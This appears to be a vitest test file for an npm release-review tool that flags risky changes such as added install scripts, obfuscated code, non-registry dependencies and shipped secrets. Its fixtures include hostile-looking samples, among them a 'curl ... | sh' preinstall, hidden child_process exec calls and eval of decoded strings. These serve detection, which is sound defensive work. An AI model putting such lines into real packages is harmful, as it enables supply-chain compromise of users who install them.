import { mkdir, mkdtemp, rm, writeFile, chmod } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { create } from 'tar'
import { afterAll, describe, expect, it } from 'vitest'
import {
  FINDINGS,
  FINDING_CODES,
  chooseBaseline,
  reviewRelease,
  type Finding,
  type FindingArgsMap,
  type FindingCode,
  type Review,
  type ReviewInput,
} from '../../src/core/review.js'
import { readTarball, type TarballContents, type TarballFile } from '../../src/npm/tarball.js'
import { FINDING_WORDING, describeFinding, renderReview, safe } from '../../src/ui/render-review.js'

type Manifest = Record<string, unknown>

const file = (path: string, content: string | Buffer, mode = 0o644): TarballFile => {
  const data = typeof content === 'string' ? Buffer.from(content) : content
  return { path, size: data.length, mode, data }
}

const SOURCE = `import { pad } from 'left-pad'

/** Greets someone, politely. */
export function greet(name) {
  if (!name) {
    throw new Error('name is required')
  }
  return \`Hello, \${pad(name, 10)}!\`
}
`

function baseManifest(version: string): Manifest {
  return {
    name: 'fixture-pkg',
    version,
    main: 'dist/index.js',
    types: 'dist/index.d.ts',
    bin: { fixture: 'bin/cli.js' },
    scripts: { test: 'vitest run', build: 'tsc' },
    dependencies: { 'left-pad': '^1.3.0' },
  }
}

/** A small, ordinary package; `edit` crafts one change on top of it. */
// An edit changes the files in place (returning nothing) or returns new ones.
// eslint-disable-next-line @typescript-eslint/no-invalid-void-type
function release(version: string, edit?: (m: Manifest, files: TarballFile[]) => TarballFile[] | void): TarballContents {
  const manifest = baseManifest(version)
  let files = [
    file('README.md', '# fixture-pkg\n\nGreets people.\n'),
    file('LICENSE', 'MIT License\n'),
    file('dist/index.js', SOURCE),
    file('dist/index.d.ts', 'export declare function greet(name: string): string\n'),
    file('bin/cli.js', "#!/usr/bin/env node\nimport { greet } from '../dist/index.js'\nconsole.log(greet(process.argv[2]))\n", 0o755),
  ]
  files = edit?.(manifest, files) ?? files
  return { manifest, files: [file('package.json', `${JSON.stringify(manifest, null, 2)}\n`), ...files] }
}

const PUBLISHED = release('1.0.0')

function review(staged: TarballContents, extra: Partial<ReviewInput> = {}): Review {
  return reviewRelease({
    previous: PUBLISHED,
    previousVersion: '1.0.0',
    staged,
    tag: 'latest',
    distTags: { latest: '1.0.0' },
    publishedVersions: ['0.9.0', '1.0.0'],
    ...extra,
  })
}

const codes = (r: Review): string[] => [...new Set(r.findings.map((f) => f.code))].sort()
const find = (r: Review, code: string): Finding | undefined => r.findings.find((f) => f.code === code)
/** A finding's arguments by name, for tests that look across codes. */
const arg = (f: Finding | undefined, key: string): unknown => (f?.args as Record<string, unknown> | undefined)?.[key]
const aboveInfo = (r: Review): Finding[] => r.findings.filter((f) => f.severity !== 'info')

/** Looks like esbuild output: one long line, almost no whitespace. */
const minified = (bytes: number): string => {
  let out = '"use strict";var e=Object.defineProperty;'
  for (let i = 0; out.length < bytes; i++) out += `function a${i}(t,n){return t.map(r=>r*n+${i}).filter(Boolean)}var b${i}=a${i}([1,2,3],${i});`
  return `${out}\n`
}

describe('reviewRelease: the crafted changes of issue 4', () => {
  it('an unchanged re-release (next patch) yields nothing beyond info', () => {
    const r = review(release('1.0.1'))
    expect(codes(r)).toEqual(['FILES_CHANGED', 'VERSION_PATCH'])
    expect(aboveInfo(r)).toEqual([])
    expect(r.baseline).toEqual({ version: '1.0.0', reason: 'tag' })
    expect(r.files).toEqual({ added: [], removed: [], changed: [{ path: 'package.json', size: expect.any(Number), previousSize: expect.any(Number) }] })
    expect(r.dependencies).toEqual([])
  })

  it('an added postinstall', () => {
    const r = review(release('1.0.1', (m) => void ((m.scripts as Manifest).postinstall = 'node ./dist/setup.js')))
    expect(codes(r)).toEqual(['FILES_CHANGED', 'INSTALL_SCRIPT_ADDED', 'SIZE_CHANGED', 'VERSION_PATCH'])
    expect(find(r, 'INSTALL_SCRIPT_ADDED')).toEqual({
      code: 'INSTALL_SCRIPT_ADDED',
      severity: 'danger',
      args: { script: 'postinstall', command: 'node ./dist/setup.js' },
    })
  })

  it('a new dependency', () => {
    const r = review(release('1.1.0', (m) => void ((m.dependencies as Manifest)['plain-crypto-js'] = '^4.2.1')))
    expect(codes(r)).toEqual(['DEPENDENCY_ADDED', 'FILES_CHANGED', 'SIZE_CHANGED', 'VERSION_MINOR'])
    expect(find(r, 'DEPENDENCY_ADDED')?.args).toEqual({ field: 'dependencies', name: 'plain-crypto-js', to: '^4.2.1' })
    expect(r.dependencies).toEqual([{ field: 'dependencies', name: 'plain-crypto-js', to: '^4.2.1', change: 'added' }])
  })

  it('a changed bin', () => {
    const r = review(
      release('1.0.1', (m, files) => {
        m.bin = { fixture: 'bin/run.js' }
        return [...files, file('bin/run.js', '#!/usr/bin/env node\nrequire("child_process").exec(process.env.X)\n', 0o755)]
      }),
    )
    expect(codes(r)).toEqual(['BIN_CHANGED', 'FILES_ADDED', 'FILES_CHANGED', 'SIZE_CHANGED', 'VERSION_PATCH'])
    expect(find(r, 'BIN_CHANGED')?.args).toEqual({ name: 'fixture', from: 'bin/cli.js', to: 'bin/run.js' })
  })

  it('a shipped .node binary', () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4000, 7)])
    const r = review(release('1.0.1', (_m, files) => [...files, file('build/Release/addon.node', elf)]))
    expect(codes(r)).toEqual(['FILES_ADDED', 'FILES_CHANGED', 'NATIVE_BINARY_ADDED', 'SIZE_CHANGED', 'VERSION_PATCH'])
    expect(find(r, 'NATIVE_BINARY_ADDED')?.args).toEqual({ path: 'build/Release/addon.node', kind: 'node-addon' })
  })

  it('a minified blob', () => {
    const r = review(release('1.0.1', (_m, files) => [...files, file('dist/vendor.js', minified(20_000))]))
    expect(codes(r)).toEqual(['FILES_ADDED', 'FILES_CHANGED', 'MINIFIED_CODE', 'SIZE_CHANGED', 'VERSION_PATCH'])
    expect(find(r, 'MINIFIED_CODE')?.args).toMatchObject({ path: 'dist/vendor.js', longestLine: expect.any(Number) })
  })

  it('a removed file', () => {
    const r = review(release('1.0.1', (_m, files) => files.filter((f) => f.path !== 'README.md')))
    expect(codes(r)).toEqual(['FILES_CHANGED', 'FILES_REMOVED', 'SIZE_CHANGED', 'VERSION_PATCH'])
    expect(r.files.removed).toEqual([{ path: 'README.md', size: 0, previousSize: 30 }])
    expect(find(r, 'FILES_REMOVED')?.args).toEqual({ count: 1, bytes: 30 })
  })

  it('a major step, and a major jump', () => {
    expect(codes(review(release('2.0.0')))).toEqual(['FILES_CHANGED', 'VERSION_MAJOR'])
    const r = review(release('3.0.0'))
    expect(codes(r)).toEqual(['FILES_CHANGED', 'VERSION_JUMP', 'VERSION_MAJOR'])
    expect(find(r, 'VERSION_JUMP')?.args).toEqual({ from: '1.0.0', to: '3.0.0', part: 'major', delta: 2 })
  })
})

describe('reviewRelease through real tarballs', () => {
  const dirs: string[] = []
  afterAll(async () => Promise.all(dirs.map((d) => rm(d, { recursive: true, force: true }))))

  /** Packs contents the way npm lays them out (everything under package/) and reads them back. */
  async function roundTrip(contents: TarballContents): Promise<TarballContents> {
    const dir = await mkdtemp(join(tmpdir(), 'review-'))
    dirs.push(dir)
    for (const f of contents.files) {
      const target = join(dir, 'package', f.path)
      await mkdir(dirname(target), { recursive: true })
      await writeFile(target, f.data)
      await chmod(target, f.mode)
    }
    const chunks: Buffer[] = []
    const stream = create({ gzip: true, cwd: dir, portable: true }, ['package'])
    for await (const chunk of stream) chunks.push(Buffer.from(chunk as Uint8Array))
    return readTarball(Buffer.concat(chunks))
  }

  it('finds the same codes in .tgz bytes as in memory', async () => {
    const staged = release('1.0.1', (m, files) => {
      ;(m.scripts as Manifest).postinstall = 'node ./dist/setup.js'
      return [...files, file('build/Release/addon.node', Buffer.alloc(64, 1))]
    })
    const r = review(await roundTrip(staged), { previous: await roundTrip(PUBLISHED) })
    expect(codes(r)).toEqual(['FILES_ADDED', 'FILES_CHANGED', 'INSTALL_SCRIPT_ADDED', 'NATIVE_BINARY_ADDED', 'SIZE_CHANGED', 'VERSION_PATCH'])
    const unchanged = review(await roundTrip(release('1.0.1')), { previous: await roundTrip(PUBLISHED) })
    expect(codes(unchanged)).toEqual(['FILES_CHANGED', 'VERSION_PATCH'])
  })
})

describe('reviewRelease: baseline and versions', () => {
  it('a first release lists everything as added and flags nothing per dependency', () => {
    const r = reviewRelease({ previous: null, previousVersion: null, staged: release('1.0.0'), tag: 'latest' })
    expect(r.baseline).toEqual({ version: null, reason: 'first-release' })
    expect(codes(r)).toEqual(['FILES_ADDED', 'FIRST_RELEASE'])
    expect(r.dependencies).toEqual([{ field: 'dependencies', name: 'left-pad', to: '^1.3.0', change: 'added' }])
    expect(r.size.previousUnpacked).toBeUndefined()
  })

  it('a first release still flags absolute risks', () => {
    const staged = release('1.0.0', (m, files) => {
      ;(m.scripts as Manifest).preinstall = 'curl https://example.invalid | sh'
      return [...files, file('.env', 'TOKEN=abc\n')]
    })
    const r = reviewRelease({ previous: null, previousVersion: null, staged, tag: 'latest' })
    expect(codes(r)).toEqual(['FILES_ADDED', 'FIRST_RELEASE', 'INSTALL_SCRIPT_ADDED', 'SENSITIVE_FILE'])
    expect(r.findings[0]?.severity).toBe('danger')
  })

  it('compares with the highest published version when the tag has none', () => {
    const r = review(release('1.0.1'), { distTags: { latest: '0.9.0' } })
    expect(r.baseline).toEqual({ version: '1.0.0', reason: 'highest' })
  })

  it('chooseBaseline prefers the tag, then the highest other version, then first release', () => {
    expect(chooseBaseline({ tag: 'latest', version: '1.1.0', distTags: { latest: '1.0.0' }, publishedVersions: ['1.0.0', '2.0.0-rc.1'] })).toEqual({
      version: '1.0.0',
      reason: 'tag',
    })
    expect(chooseBaseline({ tag: 'next', version: '2.0.0-rc.2', distTags: { latest: '1.0.0' }, publishedVersions: ['1.0.0', '2.0.0-rc.1'] })).toEqual({
      version: '2.0.0-rc.1',
      reason: 'highest',
    })
    expect(chooseBaseline({ tag: 'latest', version: '1.0.0', publishedVersions: ['1.0.0'] })).toEqual({ version: null, reason: 'first-release' })
    expect(chooseBaseline({ tag: 'latest', version: '1.0.0' })).toEqual({ version: null, reason: 'first-release' })
  })

  it.each([
    ['1.0.1-beta.0', 'next', ['FILES_CHANGED', 'SIZE_CHANGED', 'VERSION_PATCH'], 'prepatch'],
    ['1.1.0', 'latest', ['FILES_CHANGED', 'VERSION_MINOR'], 'minor'],
    ['1.10.0', 'latest', ['FILES_CHANGED', 'SIZE_CHANGED', 'VERSION_JUMP', 'VERSION_MINOR'], 'minor'],
    ['1.0.10', 'latest', ['FILES_CHANGED', 'SIZE_CHANGED', 'VERSION_JUMP', 'VERSION_PATCH'], 'patch'],
    ['1.0.9', 'latest', ['FILES_CHANGED', 'VERSION_PATCH'], 'patch'],
  ])('%s on %s', (version, tag, expected, step) => {
    const r = review(release(version), { tag, distTags: { latest: '1.0.0', [tag]: '1.0.0' } })
    expect(codes(r)).toEqual(expected)
    expect(arg(r.findings.find((f) => f.code.startsWith('VERSION_') && f.code !== 'VERSION_JUMP'), 'step')).toBe(step)
  })

  it('a prerelease after a prerelease is a prerelease step', () => {
    const previous = release('2.0.0-rc.1')
    const r = review(release('2.0.0-rc.2'), { previous, previousVersion: '2.0.0-rc.1', tag: 'next', distTags: { next: '2.0.0-rc.1' } })
    expect(codes(r)).toEqual(['FILES_CHANGED', 'VERSION_PRERELEASE'])
  })

  it('a version below what the tag holds goes backwards; below the highest on another tag is a backport', () => {
    const previous = release('2.0.0')
    const back = review(release('1.5.0'), { previous, previousVersion: '2.0.0', distTags: { latest: '2.0.0' } })
    expect(codes(back)).toEqual(['FILES_CHANGED', 'VERSION_BACKWARDS'])
    const backport = review(release('1.5.0'), { previous, previousVersion: '2.0.0', tag: 'v1-lts', distTags: { latest: '2.0.0' } })
    expect(codes(backport)).toEqual(['FILES_CHANGED', 'VERSION_BACKPORT'])
  })

  it('flags a version that is already published and a prerelease tagged latest', () => {
    expect(codes(review(release('0.9.0')))).toContain('VERSION_ALREADY_PUBLISHED')
    expect(codes(review(release('1.0.1-rc.0')))).toEqual(['FILES_CHANGED', 'PRERELEASE_ON_LATEST', 'SIZE_CHANGED', 'VERSION_PATCH'])
  })
})

describe('reviewRelease: git ref against tag and version', () => {
  const refCodes = (gitRef: string, extra: Partial<ReviewInput> = {}): string[] =>
    codes(review(release('1.0.1'), { gitRef, ...extra })).filter((c) => c.startsWith('REF_'))

  it.each([
    ['refs/tags/v1.0.1', {}, []],
    ['refs/tags/1.0.1', {}, []],
    ['refs/tags/fixture-pkg@1.0.1', {}, []],
    ['refs/tags/v1.0.2', {}, ['REF_TAG_MISMATCH']],
    ['refs/tags/fixture-pkg@1.0.2', {}, ['REF_TAG_MISMATCH']],
    ['refs/tags/other-pkg@3.0.0', {}, []],
    ['refs/tags/nightly', {}, []],
    ['v1.0.2', {}, ['REF_TAG_MISMATCH']],
    ['refs/heads/main', {}, []],
    ['master', {}, []],
    ['refs/heads/feature/x', {}, ['REF_BRANCH_NOT_DEFAULT']],
    ['feature/x', { tag: 'next', distTags: { next: '1.0.0' } }, []],
    ['refs/heads/main', { defaultBranch: 'trunk' }, ['REF_BRANCH_NOT_DEFAULT']],
    ['refs/heads/trunk', { defaultBranch: 'trunk' }, []],
    ['refs/pull/7/merge', {}, ['REF_PULL_REQUEST']],
    ['HEAD', {}, []],
  ] as Array<[string, Partial<ReviewInput>, string[]]>)('%s %j', (ref, extra, expected) => {
    expect(refCodes(ref, extra)).toEqual(expected)
  })
})

describe('reviewRelease: manifest changes', () => {
  it('install scripts changed, removed, and the implicit node-gyp install', () => {
    const withScript = release('1.0.0', (m) => void ((m.scripts as Manifest).install = 'node-gyp rebuild'))
    const changed = review(release('1.0.1', (m) => void ((m.scripts as Manifest).install = 'node evil.js')), { previous: withScript })
    expect(find(changed, 'INSTALL_SCRIPT_CHANGED')?.args).toEqual({ script: 'install', from: 'node-gyp rebuild', to: 'node evil.js' })
    const removed = review(release('1.0.1'), { previous: withScript })
    expect(codes(removed)).toEqual(['FILES_CHANGED', 'INSTALL_SCRIPT_REMOVED', 'SIZE_CHANGED', 'VERSION_PATCH'])
    const gyp = review(release('1.0.1', (_m, files) => [...files, file('binding.gyp', "{ 'targets': [] }\n")]))
    expect(find(gyp, 'INSTALL_SCRIPT_ADDED')?.args).toEqual({ script: 'install', command: 'node-gyp rebuild' })
    // The same binding.gyp with the implicit script written out is no change.
    const explicit = review(release('1.0.1', (m, files) => {
      ;(m.scripts as Manifest).install = 'node-gyp rebuild'
      return [...files, file('binding.gyp', '{}\n')]
    }), { previous: release('1.0.0', (_m, files) => [...files, file('binding.gyp', '{}\n')]) })
    expect(codes(explicit)).not.toContain('INSTALL_SCRIPT_ADDED')
  })

  it('dependency ranges changed and removed, non-registry specs, bundled and peer dependencies', () => {
    const r = review(
      release('1.0.1', (m) => {
        m.dependencies = { 'left-pad': 'github:attacker/left-pad' }
        m.peerDependencies = { react: '>=18' }
        m.optionalDependencies = { fsevents: 'https://example.invalid/fsevents.tgz' }
        m.bundleDependencies = ['left-pad']
      }),
      { previous: release('1.0.0', (m) => void (m.devDependencies = { vitest: '^4' })) },
    )
    expect(r.dependencies).toEqual([
      { field: 'dependencies', name: 'left-pad', from: '^1.3.0', to: 'github:attacker/left-pad', change: 'changed' },
      { field: 'optionalDependencies', name: 'fsevents', to: 'https://example.invalid/fsevents.tgz', change: 'added' },
      { field: 'peerDependencies', name: 'react', to: '>=18', change: 'added' },
      { field: 'bundleDependencies', name: 'left-pad', change: 'added' },
    ])
    expect(r.findings.filter((f) => f.code.startsWith('DEPENDENCY_')).map((f) => [f.code, arg(f, 'field'), arg(f, 'name')])).toEqual([
      ['DEPENDENCY_NON_REGISTRY', 'dependencies', 'left-pad'],
      ['DEPENDENCY_NON_REGISTRY', 'optionalDependencies', 'fsevents'],
      ['DEPENDENCY_ADDED', 'optionalDependencies', 'fsevents'],
      ['DEPENDENCY_ADDED', 'peerDependencies', 'react'],
      ['DEPENDENCY_ADDED', 'bundleDependencies', 'left-pad'],
      ['DEPENDENCY_CHANGED', 'dependencies', 'left-pad'],
    ])
    const removed = review(release('1.0.1', (m) => void (m.dependencies = {})))
    expect(find(removed, 'DEPENDENCY_REMOVED')?.args).toEqual({ field: 'dependencies', name: 'left-pad', from: '^1.3.0' })
    const aliases = review(release('1.0.1', (m) => void (m.dependencies = { 'left-pad': 'npm:@scope/pad@^2', x: 'latest', y: '1.x || >=3' })))
    expect(codes(aliases)).not.toContain('DEPENDENCY_NON_REGISTRY')
  })

  it('entry points changed, and entry points that point nowhere', () => {
    const r = review(
      release('1.0.1', (m) => {
        m.exports = { '.': { import: './dist/index.js', require: './dist/missing.cjs' }, './feature/*': './dist/*.js' }
        m.module = 'dist/index.js'
      }),
    )
    expect(r.findings.filter((f) => f.code.startsWith('ENTRY_')).map((f) => f.args)).toEqual([
      { field: 'module', to: '"dist/index.js"' },
      { field: 'exports', to: JSON.stringify({ '.': { import: './dist/index.js', require: './dist/missing.cjs' }, './feature/*': './dist/*.js' }) },
      { field: 'exports', path: 'dist/missing.cjs' },
    ])
    const main = review(release('1.0.1', (m) => void (m.main = 'dist/index')))
    expect(codes(main)).toEqual(['ENTRY_POINT_CHANGED', 'FILES_CHANGED', 'SIZE_CHANGED', 'VERSION_PATCH'])
    const gone = review(release('1.0.1', (m) => void (m.main = 'lib/gone.js')))
    expect(find(gone, 'ENTRY_POINT_MISSING')?.args).toEqual({ field: 'main', path: 'lib/gone.js' })
  })
})

describe('reviewRelease: file risks', () => {
  const withFiles = (...extra: TarballFile[]): Review => review(release('1.0.1', (_m, files) => [...files, ...extra]))
  const without = (r: Review, ...drop: string[]): string[] =>
    codes(r).filter((c) => !['FILES_ADDED', 'FILES_CHANGED', 'SIZE_CHANGED', 'VERSION_PATCH', ...drop].includes(c))

  it('a file that changed only in its bytes, not its size, is changed', () => {
    const r = review(release('1.0.1', (_m, files) => files.map((f) => (f.path === 'dist/index.js' ? file(f.path, SOURCE.replace('Hello', 'Hallo')) : f))))
    expect(r.files.changed.map((f) => f.path)).toEqual(['dist/index.js', 'package.json'])
  })

  it('new executables, but not bin targets or native binaries twice', () => {
    expect(without(withFiles(file('lib/run.sh', 'echo hi\n', 0o755)))).toEqual(['EXECUTABLE_ADDED'])
    const madeExecutable = review(release('1.0.1', (_m, files) => files.map((f) => (f.path === 'dist/index.js' ? { ...f, mode: 0o755 } : f))))
    expect(find(madeExecutable, 'EXECUTABLE_ADDED')?.args).toEqual({ path: 'dist/index.js', mode: '0755' })
    const exe = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(100)])
    expect(without(withFiles(file('bin/helper', exe, 0o755)))).toEqual(['NATIVE_BINARY_ADDED'])
  })

  it('recognises native binaries by magic bytes, and tells a Java class from a fat Mach-O', () => {
    const pe = Buffer.alloc(256)
    pe.write('MZ', 0, 'latin1')
    pe.writeUInt32LE(0x80, 0x3c)
    pe.write('PE\0\0', 0x80, 'latin1')
    const fat = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, ...Buffer.alloc(64)])
    const javaClass = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, ...Buffer.alloc(64)])
    const macho = Buffer.from([0xcf, 0xfa, 0xed, 0xfe, ...Buffer.alloc(64)])
    const r = withFiles(file('lib/a.dll', pe), file('lib/b', fat), file('lib/c.class', javaClass), file('lib/d.dylib', macho))
    expect(r.findings.filter((f) => f.code === 'NATIVE_BINARY_ADDED').map((f) => [f.args.path, f.args.kind])).toEqual([
      ['lib/a.dll', 'pe'],
      ['lib/b', 'mach-o'],
      ['lib/d.dylib', 'mach-o'],
    ])
  })

  it('a changed native binary is a warning, not a new one', () => {
    const previous = release('1.0.0', (_m, files) => [...files, file('prebuilds/addon.node', Buffer.alloc(100, 1))])
    const r = review(release('1.0.1', (_m, files) => [...files, file('prebuilds/addon.node', Buffer.alloc(100, 2))]), { previous })
    expect(codes(r)).toEqual(['FILES_CHANGED', 'NATIVE_BINARY_CHANGED', 'VERSION_PATCH'])
  })

  it('minified code already minified before is not news', () => {
    const previous = release('1.0.0', (_m, files) => [...files, file('dist/vendor.js', minified(20_000))])
    const r = review(release('1.0.1', (_m, files) => [...files, file('dist/vendor.js', minified(21_000))]), { previous })
    expect(codes(r)).toEqual(['FILES_CHANGED', 'SIZE_CHANGED', 'VERSION_PATCH'])
  })

  it('a very long line in otherwise ordinary code', () => {
    const code = `${SOURCE}export const table = [${Array.from({ length: 400 }, (_, i) => i).join(', ')}]\n${SOURCE}`
    const r = withFiles(file('dist/table.js', code))
    expect(without(r)).toEqual(['LONG_LINE'])
    expect(find(r, 'LONG_LINE')?.args).toMatchObject({ path: 'dist/table.js', line: 10 })
  })

  it.each([
    ['obfuscator-identifiers', Array.from({ length: 12 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=_0x4e21[${i}];`).join('\n')],
    ['eval-of-decoded', `${SOURCE}eval(atob("Y29uc29sZS5sb2coMSk="))\n`],
    ['eval-of-decoded', `${SOURCE}new Function(Buffer.from(x, 'base64').toString())()\n`],
    ['escape-density', `module.exports = "${'\\x68\\x65\\x6c\\x6c\\x6f'.repeat(100)}"\n`],
    ['base64-blob', `const payload = "${Buffer.alloc(4000, 'pay').toString('base64')}"\n`],
    ['whitespace-padding', `${SOURCE}export const ok = 1;${' '.repeat(150)}require('child_process').exec('curl x')\n`],
    ['bidi-control', `const access = "user\u202E \u2066// admin\u2069 \u2066"\n`],
  ])('obfuscation signal %s', (signal, code) => {
    const r = withFiles(file('dist/extra.js', code))
    expect(find(r, 'OBFUSCATED_CODE')?.args).toEqual({ path: 'dist/extra.js', signals: signal })
  })

  it('no obfuscation finding for data URLs, ordinary eval, or a signal the file already had', () => {
    const dataUrl = `export const font = "data:font/woff2;base64,${Buffer.alloc(6000, 'font').toString('base64')}"\n`
    expect(codes(withFiles(file('dist/font.js', dataUrl)))).not.toContain('OBFUSCATED_CODE')
    expect(codes(withFiles(file('dist/e.js', `${SOURCE}const f = new Function('a', 'return a')\n`)))).not.toContain('OBFUSCATED_CODE')
    const packed = `${SOURCE}eval(atob("Y29uc29sZS5sb2coMSk="))\n`
    const previous = release('1.0.0', (_m, files) => [...files, file('dist/p.js', packed)])
    const r = review(release('1.0.1', (_m, files) => [...files, file('dist/p.js', `${packed}// v2\n`)]), { previous })
    expect(codes(r)).not.toContain('OBFUSCATED_CODE')
  })

  it('files outside the usual folders, unless the package already had them or lists them in "files"', () => {
    const r = withFiles(file('scripts/steal.js', SOURCE), file('scripts/more.js', SOURCE), file('setup.js', SOURCE))
    expect(r.findings.filter((f) => f.code === 'UNUSUAL_LOCATION').map((f) => f.args)).toEqual([
      { path: 'scripts/', files: 2 },
      { path: 'setup.js', files: 1 },
    ])
    const listed = review(release('1.0.1', (m, files) => {
      m.files = ['dist', 'bin', 'script*/**/*.js']
      return [...files, file('scripts/ok.js', SOURCE)]
    }))
    expect(codes(listed)).not.toContain('UNUSUAL_LOCATION')
    const previous = release('1.0.0', (_m, files) => [...files, file('templates/a.txt', 'a\n')])
    expect(codes(review(release('1.0.1', (_m, files) => [...files, file('templates/b.txt', 'b\n')]), { previous }))).not.toContain('UNUSUAL_LOCATION')
  })

  it('lock files, secrets and private keys that should not ship', () => {
    const key = `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW'.repeat(3)}\n-----END OPENSSH PRIVATE KEY-----\n`
    const r = withFiles(
      file('yarn.lock', '# yarn lockfile v1\n'),
      file('dist/.env.production', 'API_KEY=1\n'),
      file('dist/.env.example', 'API_KEY=\n'),
      file('dist/.npmrc', '//registry.npmjs.org/:_authToken=x\n'),
      file('dist/certs/server.pem', key),
      file('dist/pem.js', "export const HEADER = '-----BEGIN PRIVATE KEY-----'\nexport const FOOTER = '-----END PRIVATE KEY-----'\n"),
    )
    expect(r.findings.filter((f) => f.code === 'SENSITIVE_FILE' || f.code === 'LOCKFILE_SHIPPED').map((f) => [f.code, arg(f, 'path'), arg(f, 'reason')])).toEqual([
      ['SENSITIVE_FILE', 'dist/.env.production', 'env-file'],
      ['SENSITIVE_FILE', 'dist/.npmrc', 'registry-config'],
      ['SENSITIVE_FILE', 'dist/certs/server.pem', 'private-key'],
      ['LOCKFILE_SHIPPED', 'yarn.lock', undefined],
    ])
  })

  it('duplicate tarball entries and a doubled size', () => {
    const dup = review(release('1.0.1', (_m, files) => [...files, file('dist/index.js', 'evil()\n')]))
    expect(find(dup, 'DUPLICATE_PATH')?.args).toEqual({ path: 'dist/index.js' })
    expect(dup.files.changed.map((f) => f.path)).toContain('dist/index.js') // the last copy is what installs
    const big = withFiles(file('dist/data.json', Buffer.alloc(600 * 1024, 0x20)))
    expect(without(big)).toEqual(['SIZE_GROWTH'])
  })

  it('puts danger first, then warnings, then notes', () => {
    const r = review(
      release('3.0.0', (m, files) => {
        ;(m.scripts as Manifest).postinstall = 'node x'
        return [...files, file('lib/run.sh', 'x\n', 0o755)]
      }),
    )
    const ranks = r.findings.map((f) => ['danger', 'warn', 'info'].indexOf(f.severity))
    expect(ranks).toEqual([...ranks].sort((a, b) => a - b))
    expect(r.findings[0]?.code).toBe('INSTALL_SCRIPT_ADDED')
  })

  it('every finding carries the severity its code declares', () => {
    const r = review(release('3.0.0', (m) => void ((m.scripts as Manifest).postinstall = 'node x')))
    for (const f of r.findings) expect(f.severity).toBe(FINDINGS[f.code])
  })
})

describe('renderReview', () => {
  const plain = (_style: string, text: string): string => text
  const from = '1.0.0'
  const to = '2.0.0'
  const path = 'dist/a.js'
  const dep = { field: 'dependencies', name: 'x' } as const
  const sampleArgs: { [C in FindingCode]: FindingArgsMap[C] } = {
    MANIFEST_MISMATCH: { fields: 'dependencies, bin' },
    MANIFEST_UNVERIFIED: {},
    TRUST_DOWNGRADE: { evidence: 'trustedPublisher', version: from, hop: 'stage' },
    PROVENANCE_UNVERIFIED: { reason: 'the bundle was replaced after staging' },
    PROVENANCE_MISMATCH: { field: 'commit', provenance: 'a'.repeat(40), record: 'b'.repeat(40) },
    INSTALL_SCRIPT_ADDED: { script: 'postinstall', command: 'node x' },
    INSTALL_SCRIPT_CHANGED: { script: 'postinstall', from, to },
    NATIVE_BINARY_ADDED: { path, kind: 'elf' },
    OBFUSCATED_CODE: { path, signals: 'bidi-control' },
    SENSITIVE_FILE: { path, reason: 'env-file' },
    DEPENDENCY_ADDED: { ...dep, to },
    DEPENDENCY_NON_REGISTRY: { ...dep, spec: 'github:a/b' },
    BIN_CHANGED: { name: 'x', from, to },
    ENTRY_POINT_CHANGED: { field: 'main', from, to },
    ENTRY_POINT_MISSING: { field: 'main', path },
    EXECUTABLE_ADDED: { path, mode: '0755' },
    NATIVE_BINARY_CHANGED: { path, kind: 'elf' },
    MINIFIED_CODE: { path, longestLine: 900, meanLine: 300, whitespacePct: 2 },
    LONG_LINE: { path, line: 3, length: 2000 },
    UNUSUAL_LOCATION: { path: 'extra/', files: 2 },
    LOCKFILE_SHIPPED: { path },
    DUPLICATE_PATH: { path },
    SIZE_GROWTH: { from: 1000, to: 3000 },
    VERSION_BACKWARDS: { from, to, tag: 'latest' },
    VERSION_JUMP: { from, to, part: 'major', delta: 2 },
    VERSION_ALREADY_PUBLISHED: { version: from },
    PRERELEASE_ON_LATEST: { version: from },
    REF_TAG_MISMATCH: { ref: 'v1.0.0', version: from },
    REF_BRANCH_NOT_DEFAULT: { branch: 'dev', tag: 'latest', expected: 'main' },
    REF_PULL_REQUEST: { ref: 'refs/pull/7/merge', tag: 'latest' },
    FIRST_RELEASE: { version: from },
    VERSION_MAJOR: { from, to, step: 'major' },
    VERSION_MINOR: { from, to, step: 'minor' },
    VERSION_PATCH: { from, to, step: 'patch' },
    VERSION_PRERELEASE: { from, to, step: 'prerelease' },
    VERSION_BACKPORT: { from, to, tag: 'v1' },
    FILES_ADDED: { count: 3, bytes: 1200 },
    FILES_REMOVED: { count: 3, bytes: 1200 },
    FILES_CHANGED: { count: 3 },
    SIZE_CHANGED: { from: 1000, to: 3000, delta: 2000 },
    DEPENDENCY_REMOVED: { ...dep, from },
    DEPENDENCY_CHANGED: { ...dep, from, to },
    INSTALL_SCRIPT_REMOVED: { script: 'postinstall', from: 'node x' },
  }

  it('has wording for every finding code', () => {
    expect(Object.keys(FINDING_WORDING).sort()).toEqual([...FINDING_CODES].sort())
    for (const code of FINDING_CODES) {
      const text = describeFinding({ code, severity: FINDINGS[code], args: sampleArgs[code] } as Finding)
      expect(text, code).toMatch(/\w/)
      expect(text, code).not.toMatch(/undefined|NaN|\[object|\?/)
    }
  })

  it('renders danger first, with files, sizes and dependencies', () => {
    const r = review(
      release('1.1.0', (m, files) => {
        ;(m.scripts as Manifest).postinstall = 'node ./dist/setup.js'
        ;(m.dependencies as Manifest).evil = '^1.0.0'
        return [...files.filter((f) => f.path !== 'README.md'), file('dist/setup.js', SOURCE)]
      }),
      { packedSize: 2048, previousPackedSize: 1900 },
    )
    const text = renderReview(r, { color: plain })
    expect(text).toContain('Review of fixture-pkg@1.1.0 compared with 1.0.0 (what the target tag points to)')
    expect(text).toContain('DANGER New install script "postinstall" runs on every install: node ./dist/setup.js [INSTALL_SCRIPT_ADDED]')
    expect(text.indexOf('DANGER')).toBeLessThan(text.indexOf('WARN'))
    expect(text.indexOf('WARN')).toBeLessThan(text.indexOf('info'))
    expect(text).toContain('Files: 1 added, 1 removed, 1 changed')
    expect(text).toContain('  + dist/setup.js')
    expect(text).toContain('  - README.md 30 B')
    expect(text).toContain('packed 1.9 kB → 2.0 kB (+148 B)')
